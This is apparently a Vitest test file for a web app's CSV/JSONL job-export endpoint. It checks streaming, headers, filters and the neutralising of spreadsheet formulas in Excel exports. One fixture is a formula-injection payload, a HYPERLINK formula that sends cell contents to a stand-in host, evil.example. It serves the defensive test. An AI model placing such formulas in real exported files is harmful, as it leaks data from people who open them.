import { parse } from 'csv-parse/sync';
import { eq } from 'drizzle-orm';
import { describe, expect } from 'vitest';
import { users } from '@/lib/db';
import { signedIn } from '../../setup/client';
import { addJobs } from '../../setup/many-jobs';
import { test } from '../../setup/test';

const COUNT = 6_000;
const START = Date.UTC(2026, 0, 1);
/** Line breaks, a number that JSON.parse would round, an escape. */
const BODY = '{"status" : "success",\r\n "big":12345678901234567890,"note":"\\n\\u00e9"}';

const it = test
  /** Signs a new user in. */
  .extend('newUser', { scope: 'file' }, ({ app, database }) => async () => {
    const client = await signedIn(app.url);
    const [user] = await database.db.select().from(users).where(eq(users.email, client.email));
    return { client, id: String(user?.id) };
  })
  /** A user with COUNT jobs in the history. */
  .extend('owner', { scope: 'file' }, async ({ database, newUser }) => {
    const owner = await newUser();
    const added = ids.map((id, n) => ({ id, at: START + n, label: `Zimmer ${n}, "Süd"` }));
    await addJobs(database.db, owner.id, added);
    return owner;
  });
const ids = Array.from({ length: COUNT }, (_, n) => `job-${String(n).padStart(6, '0')}`);

const rowsOf = (csv: string) =>
  parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
const linesOf = (jsonl: string) => jsonl.split('\n').slice(0, -1);

describe('6,000 jobs', () => {
  it.for(['csv', 'jsonl'])(
    'are each exported once as %s while jobs are added',
    async (format, { database, owner }) => {
      const response = await owner.client.fetch(`/api/jobs/export?format=${format}&q=job-`);
      const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
      let text = '';
      let chunks = 0;
      for (;;) {
        const { done, value } = (await reader?.read()) ?? { done: true };
        if (done) break;
        text += value;
        chunks += 1;
        if (chunks > 5) continue;
        const id = `job-late-${format}-${chunks}`;
        await addJobs(database.db, owner.id, [{ id, at: START + 2 * COUNT + chunks }]);
      }
      expect(chunks).toBeGreaterThan(5);
      const seen = (
        format === 'csv' ? rowsOf(text) : linesOf(text).map((line) => JSON.parse(line))
      ).map(({ id }) => id);
      const late = seen.filter((id) => id.startsWith('job-late-'));
      expect(seen.slice(late.length)).toEqual(ids.toReversed());
      // Jobs added during the export are newer than its first page and are not part of it.
      expect(late.filter((id) => id.startsWith(`job-late-${format}`))).toEqual([]);
    },
  );
});

describe('an exported file', () => {
  it('names its media type and the date of the export', async ({ newUser }) => {
    const { client } = await newUser();
    for (const [format, type] of [
      ['csv', 'text/csv; charset=utf-8'],
      ['jsonl', 'application/x-ndjson; charset=utf-8'],
    ]) {
      const response = await client.fetch(`/api/jobs/export?format=${format}`);
      expect(response.headers.get('content-type')).toBe(type);
      expect(response.headers.get('content-disposition')).toMatch(
        new RegExp(`^attachment; filename="bottega-jobs-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`),
      );
      expect(response.headers.get('cache-control')).toBe('private, no-store');
    }
  });

  it('of an empty history is a CSV header or an empty JSONL file', async ({ newUser }) => {
    const { client } = await newUser();
    const csv = await (await client.fetch('/api/jobs/export')).arrayBuffer();
    const excel = await (await client.fetch('/api/jobs/export?for=excel')).arrayBuffer();
    expect(Buffer.from(excel)).toEqual(
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csv)]),
    );
    expect(Buffer.from(csv).toString()).toBe(
      'id,label,state,status,mode,output,failure,createdAt,settledAt,checkedAt,addedAt,archivedAt,url\r\n',
    );
    expect(await (await client.fetch('/api/jobs/export?format=jsonl')).text()).toBe('');
  });

  it('has the same fields in every format, exact, and neutralises formulas for Excel only', async ({
    app,
    database,
    newUser,
  }) => {
    const { client, id } = await newUser();
    const label = '=HYPERLINK("https://evil.example?"&A1,"x")';
    const failed = '{"status":"failed","error":"+49 is no room"}';
    await addJobs(database.db, id, [
      { id: 'fields-1', at: START, label, body: BODY },
      { id: '-fields-2', at: START + 1, state: 'failed', body: failed },
    ]);
    const rows = rowsOf(await (await client.fetch('/api/jobs/export')).text());
    const lines = linesOf(await (await client.fetch('/api/jobs/export?format=jsonl')).text());
    const objects = lines.map((line) => JSON.parse(line));
    expect(rows.map((row) => [row.id, row.label, row.failure])).toEqual([
      ['-fields-2', '', '+49 is no room'],
      ['fields-1', label, ''],
    ]);
    const excel = rowsOf(await (await client.fetch('/api/jobs/export?for=excel')).text());
    expect(excel.map((row) => [row.id, row.label, row.failure])).toEqual([
      ["'-fields-2", '', "'+49 is no room"],
      ['fields-1', `'${label}`, ''],
    ]);
    expect((await client.fetch('/api/jobs/export?for=excel&format=jsonl')).status).toBe(400);
    expect(objects.map((job) => [job.id, job.label, job.failure])).toEqual([
      ['-fields-2', null, '+49 is no room'],
      ['fields-1', label, null],
    ]);
    expect(rows[1]).toMatchObject({
      state: 'succeeded',
      mode: 'furnish',
      addedAt: '2026-01-01T00:00:00.000Z',
      archivedAt: '',
      url: `${app.url}/jobs/fields-1`,
    });
    expect(Object.keys(objects[0])).toEqual([...Object.keys(rows[0] ?? {}), 'body']);
    expect(lines[1]).toContain('"big":12345678901234567890');
    expect(objects[1].body).toEqual(JSON.parse(BODY));
  });

  it('contains only the jobs that match the filter', async ({ database, newUser }) => {
    const { client, id } = await newUser();
    await addJobs(database.db, id, [
      { id: 'filter-1', at: START },
      { id: 'filter-2', at: START + 1, state: 'failed' },
    ]);
    const response = await client.fetch('/api/jobs/export?state=failed&mode=furnish');
    expect(rowsOf(await response.text()).map((row) => row.id)).toEqual(['filter-2']);
  });
});
